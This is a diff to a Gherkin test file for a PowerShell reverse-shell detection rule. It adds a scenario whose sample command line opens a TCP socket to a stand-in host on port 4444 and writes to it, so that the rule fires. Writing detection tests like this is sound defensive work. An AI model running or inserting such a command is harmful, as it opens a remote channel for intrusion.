@@ -118,6 +118,16 @@ Feature: Potential Powershell ReverseShell Connection
 
   Rule: Only the start of a process is judged
 
+    Scenario: The start of a process, made without a look at the rule
+      Given a process creation event with:
+        | Image            | C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe |
+        | OriginalFileName | PowerShell.EXE                                            |
+      And its CommandLine is:
+        """
+        powershell "$c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
+        """
+      Then the rule fires
+
     Scenario: The connection itself is for other rules
       Given a benign network connection event
       When its Image is "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
